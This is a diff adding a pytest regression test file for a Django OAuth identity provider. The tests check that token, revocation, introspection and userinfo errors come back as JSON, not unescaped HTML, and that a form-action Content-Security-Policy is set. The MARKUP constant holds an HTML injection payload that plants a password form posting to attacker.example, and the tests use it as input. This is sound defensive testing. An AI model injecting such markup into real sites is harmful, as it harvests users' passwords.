@@ -1,0 +1,119 @@
+"""Token, revocation, introspection and userinfo errors are JSON (RFC 6749 section 5.2).
+
+The attack (issue 10): a form posted from another site to /idp/token/ with a `resource`
+holding markup drew a fake password form on the provider's origin, because the 400 came
+back as text/html with the value unescaped.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from django.test import Client
+
+from identity.models import Client as OAuthClient
+from tests.identity.test_tokens import _basic, _pkce, code_flow
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("published_apis")]
+
+MARKUP = '"><form action="https://attacker.example/"><input name="password" type="password">'
+
+
+@pytest.fixture
+def svc(client_factory: Any) -> OAuthClient:
+    return client_factory(
+        "svc", "svc-secret", grant=OAuthClient.GRANT_CLIENT_CREDENTIALS, redirect_uris=[]
+    )
+
+
+def assert_json_error(response: Any, status: int, error: str) -> dict[str, Any]:
+    assert response.status_code == status, response.content
+    assert response["Content-Type"] == "application/json"
+    body = response.json()
+    assert body["error"] == error
+    return body
+
+
+@pytest.mark.parametrize("field", ["resource", "scope", "grant_type"])
+def test_markup_in_a_token_request_comes_back_as_json(
+    client: Client, svc: OAuthClient, field: str
+) -> None:
+    form = {"grant_type": "client_credentials", "scope": "echo.read", field: MARKUP}
+    response = client.post("/idp/token/", form, HTTP_AUTHORIZATION=_basic("svc", "svc-secret"))
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/json"
+    assert "error" in response.json()
+
+
+def test_token_endpoint_by_get_is_a_json_405(client: Client) -> None:
+    response = client.get("/idp/token/?grant_type=client_credentials&resource=" + MARKUP)
+    assert_json_error(response, 405, "invalid_request")
+
+
+def test_wrong_client_secret_is_json_invalid_client(client: Client, svc: OAuthClient) -> None:
+    response = client.post(
+        "/idp/token/",
+        {"grant_type": "client_credentials"},
+        HTTP_AUTHORIZATION=_basic("svc", "wrong"),
+    )
+    assert_json_error(response, 401, "invalid_client")
+
+
+def test_revocation_errors_are_json(client: Client, svc: OAuthClient) -> None:
+    response = client.post(
+        "/idp/revoke/", {"token": "x"}, HTTP_AUTHORIZATION=_basic("svc", "wrong")
+    )
+    assert_json_error(response, 401, "invalid_client")
+    assert_json_error(client.get("/idp/revoke/?token=x"), 405, "invalid_request")
+
+
+def test_introspection_errors_are_json(client: Client, svc: OAuthClient) -> None:
+    response = client.post(
+        "/idp/introspect/", {"token": "x"}, HTTP_AUTHORIZATION=_basic("svc", "wrong")
+    )
+    assert_json_error(response, 401, "invalid_client")
+    response = client.post("/idp/introspect/", {}, HTTP_AUTHORIZATION=_basic("svc", "svc-secret"))
+    assert_json_error(response, 400, "invalid_request")
+
+
+def test_userinfo_with_a_client_credentials_token_is_invalid_token(
+    client: Client, svc: OAuthClient
+) -> None:
+    token = client.post(
+        "/idp/token/",
+        {"grant_type": "client_credentials", "scope": "openid echo.read"},
+        HTTP_AUTHORIZATION=_basic("svc", "svc-secret"),
+    ).json()["access_token"]
+    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION=f"Bearer {token}")
+    assert_json_error(response, 401, "invalid_token")
+    assert response["WWW-Authenticate"].startswith('Bearer error="invalid_token"')
+
+
+def test_userinfo_with_a_bad_token_is_json(client: Client) -> None:
+    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION="Bearer nope")
+    assert_json_error(response, 401, "invalid_token")
+
+
+def test_userinfo_still_answers_for_a_user_token(client: Client, signed_in: Any, app: Any) -> None:
+    tokens = code_flow(client, app)
+    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION=f"Bearer {tokens['access_token']}")
+    assert response.status_code == 200 and response.json()["preferred_username"] == "grace"
+
+
+def test_pages_allow_forms_to_post_only_to_this_site(client: Client) -> None:
+    csp = client.get("/idp/").headers["Content-Security-Policy"]
+    assert "form-action 'self'" in csp
+
+
+def test_consent_page_allows_the_redirect_to_its_client(
+    client: Client, signed_in: Any, app: Any
+) -> None:
+    _, challenge = _pkce()
+    page = client.get(
+        "/idp/authorize/?response_type=code&client_id=console&redirect_uri="
+        "http://127.0.0.1:9999/cb&scope=openid&code_challenge_method=S256&code_challenge="
+        + challenge
+    )
+    assert page.status_code == 200 and b"Allow console?" in page.content
+    assert "form-action 'self' http://127.0.0.1:9999;" in page["Content-Security-Policy"] + ";"
